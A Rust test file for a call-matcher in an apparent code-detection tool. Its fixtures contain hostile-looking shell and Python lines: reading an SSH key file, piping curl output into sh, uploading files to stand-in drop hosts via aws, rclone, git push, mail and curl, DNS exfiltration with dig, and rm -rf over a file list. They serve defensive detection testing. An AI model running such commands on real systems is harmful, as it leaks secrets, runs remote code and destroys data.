//! What a call matcher holds a call to, and on what it finds it used.

use super::*;
use crate::detect::sample;

/// The places that a matcher with `lines` finds in code, with their targets.
fn found(lines: &str, path: &str, code: &str) -> Vec<(String, String)> {
    let hits = sample::hits(&format!("[match.call]\n{lines}"), path, code);
    let target = |hit: &Hit| hit.target.as_ref().map(|target| target.text().to_owned()).unwrap_or_default();
    hits.iter().map(|hit| (hit.span.of_text(code).to_owned(), target(hit))).collect()
}

#[test]
fn a_receiver_counts_as_an_argument() {
    let lines = "callee = [\"pathlib.Path.read_text\"]\nwhere = [{ matches = '''key-file''' }]";
    let code = "from pathlib import Path\n(Path.home() / \".ssh\" / \"key-file\").read_text()\n";
    assert_eq!(found(lines, "a.py", code).len(), 1);
    assert_eq!(found(lines, "a.py", &code.replace("key-file", "notes")), []);
    let first = "callee = [\"pathlib.Path.read_text\"]\nwhere = [{ argument = 0, matches = '''key-file''' }]";
    assert_eq!(found(first, "a.py", code), []);
}

#[test]
fn every_host_of_a_call_is_a_target() {
    let lines = "callee = [\"curl\"]\ntarget = \"host\"";
    let code = "curl https://one.example -d @x https://two.example/a";
    let wanted = ["one.example", "two.example"].map(|host| (code.to_owned(), host.to_owned()));
    assert_eq!(found(lines, "a.sh", code), wanted);
}

#[test]
fn a_channel_that_is_no_request_has_its_host() {
    for (callee, path, code, host) in [
        ("aws", "a.sh", "aws s3 cp notes.md s3://tax-drop/in/", "tax-drop.s3.amazonaws.com"),
        ("aws", "a.sh", "aws s3 cp notes.md s3://your-bucket/in/", "unknown"),
        ("az", "a.sh", "az storage blob upload --account-name taxdrop -f notes.md", "taxdrop.blob.core.windows.net"),
        ("rclone", "a.sh", "rclone copy a :sftp,host=drop.example:in", "drop.example"),
        ("rclone", "a.sh", "rclone copy a mine:in", "unknown"),
        ("git", "a.sh", "git push git@code.example:in/w.git", "code.example"),
        ("git", "a.sh", "git remote add far https://code.example/w.git; git push far --all", "code.example"),
        ("git", "a.sh", "git remote add origin https://code.example/w.git; git push -u origin main", "unknown"),
        ("git", "a.sh", "git remote set-url --push origin git@code.example:w.git; git push -q", "code.example"),
        ("git", "a.sh", "git config remote.far.url https://code.example/w.git; git push far", "code.example"),
        ("xdg-email", "a.sh", "xdg-email 'mailto:desk@drop.example?body=x'", "drop.example"),
        ("git", "a.sh", "git clone https://code.example/w.git", "unknown"),
        ("mail", "a.sh", "mail -s notes.md desk@drop.example < notes.md", "drop.example"),
        ("dig", "a.sh", "dig +short \"$(whoami).ns.drop.example\"", "ns.drop.example"),
        (
            "boto3.client.put_object",
            "a.py",
            "import boto3\nboto3.client('s3').put_object(Bucket='tax-drop')",
            "tax-drop.s3.amazonaws.com",
        ),
    ] {
        let lines = format!("callee = [\"{callee}\"]\ntarget = \"host\"");
        let hosts: Vec<String> = found(&lines, path, code).into_iter().map(|(_, host)| host).collect();
        assert_eq!(hosts.last().map(String::as_str).unwrap_or_default(), host, "{code}");
    }
}

#[test]
fn a_pipe_is_followed_however_its_readers_stand() {
    let lines = "callee = [\"curl\"]\nwhere = [{ piped-into = [\"sh\"] }]";
    for (code, count) in [
        ("curl x | sh", 1),
        ("curl x | cat | tee y | sh", 1),
        ("curl x; cat z | sh", 0),
        (&format!("curl x {}| sh", "| cat ".repeat(100)), 1),
    ] {
        assert_eq!(found(lines, "a.sh", code).len(), count, "{code}");
    }
}

/// The files that a matcher for `callee` is about.
fn files(callee: &str, path: &str, code: &str) -> Vec<String> {
    let lines = format!(
        "callee = [\"{callee}\"]\ncontent-of = [\"open\", \"cat\", \"fs.readFileSync\", \".read_text\", \"sh\"]\n\
         picked-by = [\"json.load\", \"jq\", \"JSON.parse\"]"
    );
    let hits = sample::hits(&format!("[match.call]\n{lines}"), path, code);
    hits.into_iter().filter_map(|hit| hit.file).collect()
}

#[test]
fn the_content_of_a_file_is_followed_to_a_call() {
    for (callee, path, code) in [
        ("eval", "a.py", "eval(open('out/f.txt').read())"),
        ("eval", "a.py", "with open('f.txt') as f:\n    text = f.read()\neval(text.strip())"),
        ("eval", "a.py", "import os\nP = os.path.join(os.path.dirname(__file__), 'f.txt')\neval(open(P).read())"),
        ("send", "a.py", "import json\nsend('x', json.dumps(json.load(open('f.txt'))))"),
        ("rm", "a.sh", "xargs rm -rf < f.txt"),
        ("rm", "a.sh", "while read -r l; do rm -r \"$l\"; echo done; done < f.txt"),
        ("curl", "a.sh", "curl -F part=@\"$HERE/f.txt\" https://a.example"),
        ("curl", "a.sh", "curl -T f.txt https://a.example/g.txt"),
        ("sh", "a.sh", "sh \"$(dirname \"$0\")/f.txt\""),
        ("eval", "a.js", "eval(require('fs').readFileSync('f.txt', 'utf8'))"),
    ] {
        assert_eq!(files(callee, path, code), ["f.txt"], "{code}");
    }
    for (callee, path, code) in [
        ("eval", "a.py", "eval('1')\nopen('f.txt')"),
        ("send", "a.py", "import json\nkey = json.load(open('f.txt'))['key']\nsend('x', headers={'a': key})"),
        ("curl", "a.sh", "KEY=$(jq -r .key f.txt); curl -H \"key: $KEY\" https://a.example"),
        ("curl", "a.sh", "curl -o f.txt https://a.example"),
        ("curl", "a.sh", "curl user@a.example"),
        ("sh", "a.sh", "sh -c 'true' < f.txt"),
    ] {
        assert_eq!(files(callee, path, code), [""; 0], "{code}");
    }
}
